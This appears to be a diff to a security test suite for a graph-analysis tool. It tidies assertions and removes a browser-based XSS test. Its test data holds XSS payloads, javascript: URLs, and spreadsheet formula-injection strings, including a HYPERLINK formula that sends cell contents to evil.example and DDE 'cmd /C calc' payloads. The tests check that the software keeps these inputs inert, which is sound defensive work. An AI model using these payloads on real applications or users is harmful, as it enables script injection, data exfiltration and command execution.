@@ -6,13 +6,11 @@ paths GeoKG writes to. Each table row is one attack; each test says what the use
 from __future__ import annotations
 
 import json
-import re
 import time
 from pathlib import Path
 
 import networkx as nx
 import pytest
-from cli_support import assert_one_line_error, geokg
 from console_support import attack_folder, snapshot
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -151,7 +149,10 @@ def test_console_refuses_and_the_graph_is_unchanged(store, tmp_path, query):
     with pytest.raises(ReadOnlyViolation) as refused:
         store.cypher(query.replace("{tmp}", str(target)))
     message = str(refused.value)
-    assert (snapshot(store), "read-only" in message, "\n" in message, list(target.iterdir())) == (before, True, False, [])
+    assert snapshot(store) == before
+    assert "read-only" in message
+    assert "\n" not in message
+    assert list(target.iterdir()) == []
     assert store.cypher("MATCH (c:Country) RETURN count(c) AS n").n.tolist() == [4]  # and the console still answers
 
 
@@ -188,7 +189,8 @@ def test_engine_walls_alone_still_refuse(store, tmp_path, monkeypatch, n):
         monkeypatch.setattr(module, "check_console_query", lambda q: None)
     with pytest.raises(ReadOnlyViolation):
         store.cypher(queries[n].replace("{tmp}", str(target)))
-    assert (snapshot(store), list(target.iterdir())) == (before, [])
+    assert snapshot(store) == before
+    assert list(target.iterdir()) == []
 
 
 #: Queries that only look dangerous: keywords inside strings, comments, property names,
@@ -238,7 +240,8 @@ def test_cartesian_product_stops_at_the_time_limit(store):
 
 def test_large_result_comes_back_truncated_at_the_row_cap(store):
     df = store.cypher("UNWIND range(1, 1000000) AS x RETURN x", row_cap=500)
-    assert (df.x.tolist(), df.attrs["truncated"]) == (list(range(1, 501)), True)
+    assert df.x.tolist() == list(range(1, 501))
+    assert df.attrs["truncated"]
 
 
 # --- 3. article text never becomes markup ------------------------------------------------------
@@ -285,8 +288,9 @@ def harmless(g: nx.MultiDiGraph) -> nx.MultiDiGraph:
 def test_network_html_carries_no_executable_payload():
     g = xss_graph()
     html = network_html(g)
-    assert (executable_markup(html, network_html(harmless(g))), "innerHTML = nodeData" in html, "innerHTML = edgeData" in html) == \
-        ([], False, False)
+    assert executable_markup(html, network_html(harmless(g))) == []
+    assert "innerHTML = nodeData" not in html
+    assert "innerHTML = edgeData" not in html
 
 
 def test_capped_static_view_and_its_note_carry_no_executable_payload():
@@ -295,7 +299,8 @@ def test_capped_static_view_and_its_note_carry_no_executable_payload():
         g.add_node(f"country:X{i}", name=f"<b onmouseover=alert({i})>c{i}</b>", label="Country")
         g.add_edge(f"country:X{i}", f"person:{XSS[0]}", key="BORDERS", type="BORDERS")
     view = network_view(g)
-    assert (view.hidden > 0, executable_markup(view.html, network_view(harmless(g)).html)) == (True, [])
+    assert view.hidden > 0
+    assert executable_markup(view.html, network_view(harmless(g)).html) == []
 
 
 @pytest.mark.parametrize("fmt", ["graphml", "json", "csv"])
@@ -312,7 +317,8 @@ def test_exported_files_keep_payloads_as_inert_text(store, tmp_path, fmt):
         names, raw = {n.get("name") for n in json.loads(out.read_text(encoding="utf-8"))["nodes"]}, False
     else:
         names, raw = set(pd.read_csv(out / "nodes.csv").name), False
-    assert (payload in names, raw) == (True, False)
+    assert payload in names
+    assert not raw
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
@@ -331,7 +337,9 @@ def test_csv_export_keeps_spreadsheet_formulas_from_articles_as_text(store, tmp_
     names = set(pd.read_csv(out / "nodes.csv", keep_default_na=False).name)
     evidence = set(pd.read_csv(out / "relationships.csv", keep_default_na=False).evidence)
     inert = {"'" + f for f in FORMULAS}
-    assert (inert <= names, inert <= evidence, any(f in names | evidence for f in FORMULAS)) == (True, True, False)
+    assert inert <= names
+    assert inert <= evidence
+    assert not any(f in names | evidence for f in FORMULAS)
 
 
 # --- 4. paths: uploads stay in their folder, exports go where they should ------------------------
@@ -370,8 +378,10 @@ def test_two_uploads_with_one_name_do_not_overwrite_each_other(tmp_path):
 def test_no_upload_name_escapes_the_upload_folder(name):
     folder = Path("/srv/uploads")
     path = upload_path(folder, name, set())
-    assert (path.parent, path.name not in ("", ".", ".."), len(path.name) <= 120, path.name.isascii()) == \
-        (folder, True, True, True)
+    assert path.parent == folder
+    assert path.name not in ("", ".", "..")
+    assert len(path.name) <= 120
+    assert path.name.isascii()
 
 
 EXPORT_PATHS = {
@@ -389,8 +399,9 @@ def test_export_to_a_bad_path_is_refused_with_one_line_and_writes_nothing(tmp_pa
     before = sorted(p.name for p in tmp_path.rglob("*"))
     with pytest.raises(GeoKGError) as refused:
         export_graph(xss_graph(), fmt, out)
-    assert (reason in str(refused.value), "\n" in str(refused.value), sorted(p.name for p in tmp_path.rglob("*"))) == \
-        (True, False, before)
+    assert reason in str(refused.value)
+    assert "\n" not in str(refused.value)
+    assert sorted(p.name for p in tmp_path.rglob("*")) == before
 
 
 def test_csv_export_may_overwrite_its_own_earlier_output(tmp_path):
@@ -409,12 +420,8 @@ def test_failed_export_leaves_the_earlier_file_whole(tmp_path):
     bad.add_node("a", weird=object())  # cannot be written as GraphML: the write fails half-way
     with pytest.raises(GeoKGError):
         export_graph(bad, "graphml", out)
-    assert (out.read_text(encoding="utf-8"), [p.name for p in tmp_path.iterdir()]) == (before, ["g.json"])
-
-
-def test_cli_export_to_a_missing_folder_is_one_line_before_the_store_is_opened(tmp_path):
-    res = geokg("export", "--format", "json", "--out", str(tmp_path / "nope" / "g.json"), db=tmp_path / "none.lbdb")
-    assert_one_line_error(res, "does not exist")
+    assert out.read_text(encoding="utf-8") == before
+    assert [p.name for p in tmp_path.iterdir()] == ["g.json"]
 
 
 def test_unsafe_url_never_becomes_a_link():
@@ -423,49 +430,3 @@ def test_unsafe_url_never_becomes_a_link():
     assert [safe_url(u) for u in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:x", "data:text/html,<b>",
                                   "https://ok.example/a?b=c", "http://x/\"onmouseover=alert(1)")] == \
         [None, None, None, None, "https://ok.example/a?b=c", None]
-
-
-# --- 5. in a real browser: payloads that would set a flag instead of calling alert() ------------
-
-FLAG_PAYLOADS = ["<img src=x onerror=\"top.__xss='img'\">", "<script>top.__xss='script'</script>",
-                 "<svg onload=\"window.parent.__xss='svg'\">", "[click](javascript:top.__xss='md')",
-                 "<a href=\"javascript:top.__xss='href'\">href</a>"]
-
-
-def flag_fragment() -> Fragment:
-    text = " ".join(FLAG_PAYLOADS)
-    p = Entity("Person", "evil-flag", f"Evil {FLAG_PAYLOADS[0]}", (FLAG_PAYLOADS[1],), {"role": FLAG_PAYLOADS[2], "country": "BLR"})
-    o = Entity("Organization", "evil-org", f"Org {FLAG_PAYLOADS[3]}", (), {"kind": FLAG_PAYLOADS[4]})
-    art = Article("evil-article", f"title {text}", url="javascript:top.__xss='url'", published="2023-05-01", source=text)
-    ev = Event(stable_id("evil-ev"), "SANCTION", (o.ref,), (p.ref,), f"evidence href {text}", "2023-05-01")
-    return Fragment(art, (p, o, BLR), (Relation("LEADS", p.ref, BLR.ref, f"evidence href {text}", "2023-05-01"),
-                                       Relation("MEMBER_OF", p.ref, o.ref, text, "2023-05-01")), (ev,))
-
-
-def test_hostile_text_sets_no_flag_and_makes_no_script_link_on_any_page(tmp_path):
-    from browser_support import PAGES, choose_entity, hover_graph, open_browser, script_effects, serve_app, settle
-
-    from geokg.graph.stores.embedded import EmbeddedStore
-
-    db = tmp_path / "graph.lbdb"
-    with EmbeddedStore(db) as s:
-        s.write_many([seed_fragment(), flag_fragment()])
-    seen = {}
-    with serve_app({"GEOKG_BACKEND": "embedded", "GEOKG_DB": str(db)}, tmp_path / "app.log") as url, open_browser() as b:
-        page = b.new_page(viewport={"width": 1400, "height": 1000})
-        dialogs: list[str] = []
-        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
-        for name in PAGES:
-            page.goto(f"{url}/{name}")
-            page.get_by_test_id("stApp").wait_for(timeout=60_000)
-            settle(page)
-            choose_entity(page, "Evil")
-            if name == "cypher":
-                page.get_by_test_id("stTextArea").locator("textarea").fill(
-                    "MATCH (a)-[r]-(b) WHERE a.id IN ['evil-flag', 'evil-org'] RETURN a, r, b, a.name AS name, r.evidence AS ev")
-                page.get_by_role("button", name="Run").click()
-                settle(page)
-                page.get_by_role("tab", name=re.compile("Graph")).click()
-            hover_graph(page)
-            seen[name] = script_effects(page) + dialogs
-    assert seen == {name: [] for name in PAGES}
